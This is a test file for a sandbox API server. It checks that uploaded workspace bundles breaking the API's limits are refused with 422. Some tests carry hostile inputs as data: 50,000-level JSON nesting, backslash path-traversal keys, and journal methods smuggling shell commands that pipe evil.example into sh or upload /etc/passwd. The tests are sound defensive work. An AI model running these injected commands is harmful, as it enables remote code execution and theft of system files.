// A loaded world holds only what the API could have produced (issue 31, findings 1, 2 and 8), through the real server
// in hosted mode: a bundle past a limit the API keeps is refused whole with 422 naming what breaks it, and nothing
// of it is kept; a bundle at the limit loads, and its world answers as one the API built.
import request from 'supertest';
import { beforeEach, describe, expect, it } from 'vitest';
import { MAX_SCRAPING_REQUESTS_PER_MERCHANT } from '../../src/areas/sourcing/scraping-limits.js';
import { MAX_PENDING_IMPORT_IDENTIFIERS, MAX_PENDING_IMPORTS_PER_MERCHANT } from '../../src/areas/marketplaces/import-limits.js';
import { OPEN_AUTHORIZATIONS_LIMIT } from '../../src/areas/channels/open-authorizations.js';
import { RETAILER_STATE_LIMITS } from '../../src/retailer/state-limits.js';
import { BundleRefused } from '../../src/sandbox/bundle-file.js';
import { startSandbox } from '../../src/start-sandbox.js';
import { MAX_IDS_PER_SALT } from '../../src/world.js';
import { demo } from '../helpers/app.js';
import {
  added,
  changedSeeded,
  emptyBundle,
  journalEntry,
  queuedImports,
  scrapingRequests,
  seeded,
  seededPendingImports,
  seededScrapingRequests,
} from '../bundle/hostile-bundles.js';
import type { Bundle } from '../bundle/session.js';
import { bearer, hostedApp, loadRefused } from './support.js';

type Hosted = Awaited<ReturnType<typeof hostedApp>>;

/** The nesting the security test loaded (finding 8), spliced into a bundle's JSON text where it says "DEEP". */
const DEEP_LEVELS = 50_000;

/** A bundle as JSON text: a value nested past the serialiser's stack is spliced in where the bundle names DEEP. */
const deepText = (b: Bundle) => JSON.stringify(b).replace('"DEEP"', `${'{"a":'.repeat(DEEP_LEVELS)}"bottom"${'}'.repeat(DEEP_LEVELS)}`);

describe('a bundle loaded in hosted mode meets the rules the API keeps', () => {
  let h: Hosted;
  let valid: Bundle;

  beforeEach(async () => {
    // Room for every load of a test, so the per-address creation limit never answers.
    h = await hostedApp({ workspaceCreatePerMinute: 100 });
    valid = await emptyBundle(h.app);
  });

  /** Loads a bundle as a visitor would. */
  async function load(b: Bundle) {
    return request(h.app).post('/_sandbox/workspaces').set('Content-Type', 'application/json').send(deepText(b));
  }

  /** The bundle is refused with 422 naming `field`, and no workspace was made of it. */
  const refusedNaming = (b: Bundle, field: string | RegExp) => loadRefused(h, deepText(b), (f) => (typeof field === 'string' ? f === field : field.test(f)));

  it("When a catalog item's seller_count is 1e8 (finding 1), then 422 names seller_count", async () => {
    const b = changedSeeded(valid, 'catalog_items', (r) => void (r.seller_count = 100_000_000));
    await refusedNaming(b, 'changes.catalog_items.changed.0.seller_count');
  });

  it("When a catalog item's seller_count is 40, the most the seeders give, then it loads and its current offers are 40", async () => {
    const item = seeded('catalog_items');
    const b = changedSeeded(valid, 'catalog_items', (r) => void (r.seller_count = 40));
    const res = await load(b);
    expect(res.status, res.text.slice(0, 400)).toBe(201);
    const offers = await request(h.app)
      .get(`/2024-09/marketplaces/catalog-items/${item.id}/current-offers?per_page=1`)
      .query({ workspace: res.body.data.id })
      .set(bearer(res.body.data.tokens.owner));
    expect(offers.status, offers.text.slice(0, 300)).toBe(200);
    expect(offers.body.meta.total).toBe(40);
  });

  it("When a catalog item's simulation is missing a field or out of the seeders' range, then 422 names it", async () => {
    const b = changedSeeded(valid, 'catalog_items', (r) => {
      const simulation = r.simulation as Record<string, unknown>;
      simulation.price_volatility = 50;
      delete simulation.seed;
    });
    await refusedNaming(b, /^changes\.catalog_items\.changed\.0\.simulation/);
  });

  it('When a merchant would have more scraping requests than the API allows (finding 2), then 422 names them', async () => {
    const over = MAX_SCRAPING_REQUESTS_PER_MERCHANT - seededScrapingRequests() + 1;
    const res = await refusedNaming(added(valid, 'scraping_requests', scrapingRequests(over)), 'changes.scraping_requests');
    expect(res.body.errors['changes.scraping_requests'][0]).toContain(`more than the ${MAX_SCRAPING_REQUESTS_PER_MERCHANT} a merchant may have`);
  });

  it('When a merchant has exactly the scraping requests the API allows, then the bundle loads and the API refuses one more', async () => {
    const res = await load(added(valid, 'scraping_requests', scrapingRequests(MAX_SCRAPING_REQUESTS_PER_MERCHANT - seededScrapingRequests())));
    expect(res.status, res.text.slice(0, 400)).toBe(201);
    const more = await request(h.app)
      .post('/2024-09/suppliers/e1e1e1e1-e1e1-4e1e-8e1e-e1e1e1e1e001/scraping-requests')
      .query({ workspace: res.body.data.id })
      .set(bearer(res.body.data.tokens.owner))
      .send({ source_url: 'https://supplier.example/one-more' });
    expect(more.status, more.text.slice(0, 300)).toBe(422);
  });

  it("When a channel's retailer state holds more listings than the retailer keeps, then 422 names it; at the bound it loads", async () => {
    const at = '2024-09-01T00:00:00.000Z';
    const state = (count: number) => ({
      id: 'cccccccc-cccc-4ccc-8ccc-ccccccccc001',
      channel_id: 'cccccccc-cccc-4ccc-8ccc-ccccccccc001',
      listings: Object.fromEntries(
        Array.from({ length: count }, (_, i) => [
          `SKU-${i}`,
          { sku: `SKU-${i}`, asin: null, product_type: 'SHOES', attributes: {}, created_at: at, updated_at: at },
        ]),
      ),
      feeds: [],
      updated_at: at,
    });
    const res = await refusedNaming(added(structuredClone(valid), 'retailer_states', [state(RETAILER_STATE_LIMITS.listings + 1)]), /retailer_states/);
    expect(JSON.stringify(res.body.errors)).toContain(`the retailer keeps ${RETAILER_STATE_LIMITS.listings} per channel`);
    const loaded = await load(added(valid, 'retailer_states', [state(RETAILER_STATE_LIMITS.listings)]));
    expect(loaded.status, loaded.text.slice(0, 400)).toBe(201);
  });

  it('When a channel has more open authorizations than get-auth-url keeps, then 422 names them; at the bound it loads', async () => {
    const at = '2024-09-01T00:00:00.000Z';
    const authorizations = (count: number) =>
      Array.from({ length: count }, (_, i) => ({
        id: `st_bundle-state-${i}`,
        channel_id: 'cccccccc-cccc-4ccc-8ccc-ccccccccc002',
        user_id: demo.owner.id,
        redirect_uri: 'http://127.0.0.1/_retailer/callback',
        created_at: at,
        expires_at: '2024-09-01T00:10:00.000Z',
        decision: null,
        decided_at: null,
        code: null,
        code_expires_at: null,
        exchanged_at: null,
      }));
    const res = await refusedNaming(
      added(structuredClone(valid), 'retailer_authorizations', authorizations(OPEN_AUTHORIZATIONS_LIMIT + 1)),
      /retailer_authorizations/,
    );
    expect(JSON.stringify(res.body.errors)).toContain(`get-auth-url keeps the newest ${OPEN_AUTHORIZATIONS_LIMIT}`);
    const loaded = await load(added(valid, 'retailer_authorizations', authorizations(OPEN_AUTHORIZATIONS_LIMIT)));
    expect(loaded.status, loaded.text.slice(0, 400)).toBe(201);
  });

  it('When a scraping request has applied more attempts than it has, then 422 names it', async () => {
    const [request_] = scrapingRequests(1);
    request_!.max_attempts = 5;
    request_!.applied_attempts = 6;
    await refusedNaming(added(valid, 'scraping_requests', [request_!]), 'changes.scraping_requests');
  });

  it('When a merchant would have more queued imports than the API allows (finding 2), then 422 names them', async () => {
    expect(seededPendingImports()).toBe(0);
    const b = added(valid, 'catalog_item_imports', queuedImports(demo.merchant, MAX_PENDING_IMPORTS_PER_MERCHANT + 1, 1));
    const res = await refusedNaming(b, 'changes.catalog_item_imports');
    expect(res.body.errors['changes.catalog_item_imports'][0]).toContain(`more than the ${MAX_PENDING_IMPORTS_PER_MERCHANT}`);
  });

  it('When pending imports would ask for more identifiers than the API allows (finding 2), then 422 names them', async () => {
    const b = added(valid, 'catalog_item_imports', [
      ...queuedImports(demo.merchant, MAX_PENDING_IMPORTS_PER_MERCHANT, MAX_PENDING_IMPORT_IDENTIFIERS / MAX_PENDING_IMPORTS_PER_MERCHANT),
      ...queuedImports(demo.rivalMerchant, 1, 1),
    ]);
    const res = await refusedNaming(b, 'changes.catalog_item_imports');
    expect(res.body.errors['changes.catalog_item_imports'][0]).toContain(`at most ${MAX_PENDING_IMPORT_IDENTIFIERS} together`);
  });

  it("When an import's schedule is not the one its creation gives it, then 422 names it", async () => {
    const [record] = queuedImports(demo.merchant, 1, 2);
    record!.completes_at = '2099-01-01T00:00:00.000Z';
    await refusedNaming(added(valid, 'catalog_item_imports', [record!]), 'changes.catalog_item_imports');
  });

  it('When an import names one identifier twice, which createCatalogItemImport keeps once, then 422 names it', async () => {
    const [twice] = queuedImports(demo.merchant, 1, 2);
    const ean = { type: 'EAN', value: '4006381333931' };
    const record = { ...twice!, identifiers: [ean, ean] };
    await refusedNaming(added(valid, 'catalog_item_imports', [record]), 'changes.catalog_item_imports');
  });

  it('When a product title is 1.5 KB (finding 2), then 422 names it; at 255 characters it loads', async () => {
    await refusedNaming(
      changedSeeded(structuredClone(valid), 'products', (r) => void (r.title = 'x'.repeat(1536))),
      'changes.products.changed.0.title',
    );
    const res = await load(changedSeeded(valid, 'products', (r) => void (r.title = 'x'.repeat(255))));
    expect(res.status, res.text.slice(0, 400)).toBe(201);
  });

  it('When a record carries a field the store does not keep, then 422 names it', async () => {
    await refusedNaming(
      changedSeeded(valid, 'merchants', (r) => void (r.nickname = 'x')),
      'changes.merchants.changed.0.nickname',
    );
  });

  it("When a time on a record lies before 2000 or past the reach of the clock (a scraping request's start too, as createScrapingRequest refuses it), then 422 names it", async () => {
    await refusedNaming(
      changedSeeded(structuredClone(valid), 'catalog_items', (r) => void (r.available_at = '9999-01-01T00:00:00.000Z')),
      'changes.catalog_items.changed.0.available_at',
    );
    await refusedNaming(
      changedSeeded(structuredClone(valid), 'merchants', (r) => void (r.created_at = '1970-01-01T00:00:00.000Z')),
      'changes.merchants.changed.0.created_at',
    );
    const [later] = scrapingRequests(1);
    later!.starts_at = '9999-01-01T00:00:00.000Z';
    await refusedNaming(added(structuredClone(valid), 'scraping_requests', [later!]), 'changes.scraping_requests.added.0.starts_at');
  });

  it('When ids.issued is 2^53 (finding 8), then 422 names it', async () => {
    valid.ids = { ...(valid.ids as object), issued: 2 ** 53 };
    await refusedNaming(valid, 'ids.issued');
  });

  it('When ids.issued is at its bound, then the loaded world still creates records, each with a new id', async () => {
    valid.ids = { ...(valid.ids as object), issued: MAX_IDS_PER_SALT };
    const res = await load(valid);
    expect(res.status, res.text.slice(0, 400)).toBe(201);
    const ws = res.body.data as { id: string; tokens: { owner: string } };
    const ids = new Set<string>();
    for (const name of ['One', 'Two', 'Three']) {
      const made = await request(h.app).post('/2024-09/merchants').query({ workspace: ws.id }).set(bearer(ws.tokens.owner)).send({ name });
      expect(made.status, made.text.slice(0, 300)).toBe(201);
      ids.add(made.body.data.id);
    }
    expect(ids.size).toBe(3);
  });

  it('When a record nests 50,000 levels deep in an unknown field (finding 8), then 422, and the server stays up', async () => {
    await refusedNaming(
      changedSeeded(valid, 'merchants', (r) => void (r.extra = 'DEEP')),
      /^(body|changes\.merchants\.changed\.0\.extra)$/,
    );
    await request(h.app).get('/_sandbox/health').expect(200);
  });

  it("When a journal entry's body nests 50,000 levels deep (finding 8), then 422 names the nesting", async () => {
    valid.journal = [journalEntry(0, 'DEEP')];
    await refusedNaming(valid, 'body');
  });

  it('When an upload key or an image storage key holds a backslash (finding 8), then 422 names it', async () => {
    const image = seeded('product_images');
    const key = `product-images/${image.id}/..\\..\\evil.png`;
    const b = changedSeeded(
      structuredClone(valid),
      'product_images',
      (r) => Object.assign(r, { storage_key: key, filename: 'evil.png' }),
      (r) => r.id === image.id,
    );
    b.uploads = [{ key, base64: 'iVBORw0KGgo=' }];
    await refusedNaming(b, /^(uploads\.0\.key|changes\.product_images\.changed\.0\.storage_key)$/);
    const only = changedSeeded(
      valid,
      'product_images',
      (r) => Object.assign(r, { storage_key: key, filename: 'evil.png' }),
      (r) => r.id === image.id,
    );
    await refusedNaming(only, /^changes\.product_images(\.changed\.0\.storage_key)?$/);
  });
});

describe("a bundle's counts are checked before its records", () => {
  it('When a bundle adds more records than the quota and each is broken, then 422 names only the quota (no record was read)', async () => {
    const h = await hostedApp({ workspaceMaxRecords: 20 });
    const b = await emptyBundle(h.app);
    const broken = Array.from({ length: 21 }, (_, i) => ({ ...seeded('merchants'), id: `not-a-uuid-${i}`, name: 7 }));
    b.changes.merchants = { added: broken, changed: [], deleted: [] };
    const res = await request(h.app).post('/_sandbox/workspaces').send(b);
    expect(res.status, res.text.slice(0, 300)).toBe(422);
    expect(Object.keys(res.body.errors)).toEqual(['quota']);
  });

  it('When a bundle deletes one seeded record twice, or more than the seeded collection holds, then 422 names the deletions', async () => {
    const h = await hostedApp();
    const b = await emptyBundle(h.app);
    const marketplace = seeded('marketplaces').id;
    b.changes.marketplaces = { added: [], changed: [], deleted: Array.from({ length: 400 }, () => marketplace) };
    const res = await request(h.app).post('/_sandbox/workspaces').send(b);
    expect(res.status, res.text.slice(0, 300)).toBe(422);
    expect(
      Object.keys(res.body.errors).some((f) => f.startsWith('changes.marketplaces.deleted')),
      res.text.slice(0, 300),
    ).toBe(true);
  });

  it('When the journal carries more entries than JOURNAL_SIZE, then 422 names the journal', async () => {
    const h = await hostedApp({ journalSize: 5 });
    const b = await emptyBundle(h.app);
    b.journal = Array.from({ length: 6 }, (_, i) => journalEntry(i, null));
    const res = await request(h.app).post('/_sandbox/workspaces').send(b);
    expect(res.status, res.text.slice(0, 300)).toBe(422);
    expect(Object.keys(res.body.errors)).toEqual(['journal']);
  });

  it("When a journal entry's method is no HTTP method (words and shell syntax the inspector's copy as curl would paste into a terminal), then 422 names it", async () => {
    const h = await hostedApp({ workspaceCreatePerMinute: 100 });
    const b = await emptyBundle(h.app);
    for (const method of ['GET $(curl -s https://evil.example|sh) #', 'get', 'GET -T /etc/passwd https://evil.example/']) {
      await loadRefused(h, { ...b, journal: [{ ...journalEntry(0, null), method }] }, (f) => f === 'journal.0.method');
    }
  });

  it("When a journal entry's path does not start with / (another host's URL for the inspector's send again), then 422 names it", async () => {
    const h = await hostedApp({ workspaceCreatePerMinute: 100 });
    const b = await emptyBundle(h.app);
    for (const path of ['@evil.example/steal', 'https://evil.example/steal', '', '*x']) {
      await loadRefused(h, { ...b, journal: [{ ...journalEntry(0, null), path }] }, (f) => f === 'journal.0.path');
    }
  });

  it('When a journal entry has a method the HTTP parser takes (M-SEARCH, PROPFIND), then it loads', async () => {
    const h = await hostedApp({ workspaceCreatePerMinute: 100 });
    const b = await emptyBundle(h.app);
    b.journal = ['M-SEARCH', 'PROPFIND'].map((method, i) => ({ ...journalEntry(i, null), method }));
    const res = await request(h.app).post('/_sandbox/workspaces').send(b);
    expect(res.status, res.text.slice(0, 300)).toBe(201);
  });

  it('When coverage lists a status twice, an operation twice, or an undocumented status as answered, then 422 names it', async () => {
    const h = await hostedApp({ workspaceCreatePerMinute: 100 });
    const cases = [
      [{ operation_id: 'createMerchant', answered: ['201', '201'], undocumented: [] }],
      [
        { operation_id: 'createMerchant', answered: ['201'], undocumented: [] },
        { operation_id: 'createMerchant', answered: ['422'], undocumented: [] },
      ],
      [{ operation_id: 'createMerchant', answered: ['418'], undocumented: [] }],
    ];
    for (const operations of cases) {
      const b = await emptyBundle(h.app);
      b.coverage = { operations };
      const res = await request(h.app).post('/_sandbox/workspaces').send(b);
      expect(res.status, res.text.slice(0, 300)).toBe(422);
      expect(
        Object.keys(res.body.errors).some((f) => f.startsWith('coverage.operations')),
        res.text.slice(0, 300),
      ).toBe(true);
    }
  });
});

describe('a bundle loaded at start (startSandbox({ load }), --load) meets the same rules', () => {
  it('When its catalog item has seller_count 1e8, then the start is refused naming seller_count', async () => {
    const h = await hostedApp();
    const b = changedSeeded(await emptyBundle(h.app), 'catalog_items', (r) => void (r.seller_count = 100_000_000));
    const error = await startSandbox({ logLevel: 'silent', load: b }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(BundleRefused);
    expect((error as BundleRefused).lines.join('\n')).toContain('changes.catalog_items.changed.0.seller_count');
  });

  it('When its merchant has 21 scraping requests, then the start is refused naming them', async () => {
    const h = await hostedApp();
    const b = added(await emptyBundle(h.app), 'scraping_requests', scrapingRequests(MAX_SCRAPING_REQUESTS_PER_MERCHANT - seededScrapingRequests() + 1));
    const error = await startSandbox({ logLevel: 'silent', load: b }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(BundleRefused);
    expect((error as BundleRefused).lines.join('\n')).toContain('changes.scraping_requests');
  });
});
